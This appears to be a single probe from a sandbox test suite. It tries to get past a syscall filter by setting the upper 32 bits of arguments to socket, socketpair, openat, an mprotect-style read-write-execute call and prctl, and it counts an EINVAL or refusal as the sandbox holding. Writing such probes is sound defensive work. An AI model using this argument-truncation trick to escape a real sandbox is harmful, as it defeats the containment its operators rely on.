"""
tries = "Sets the upper half of arguments that the kernel cuts off, so that a filter compares something else."
worth = 1
held = ["EINVAL", "refused"]
"""

high = 1 << 32
word = attempt(
    lambda: syscall("socket", high + 2, high + 1, 0),
    lambda: syscall("socketpair", high + 1, 2, 0, bytes(8)),
    lambda: syscall("openat", high * 2**31 - 100, target.file.encode(), 0, 0),
    lambda: syscall((10, 226)[target.machine != "x86_64"], id(bytearray(9000)) // 4096 * 4096, 4096, high + 7),
    lambda: syscall("prctl", high + 4, 1, 0, 0, 0),
)
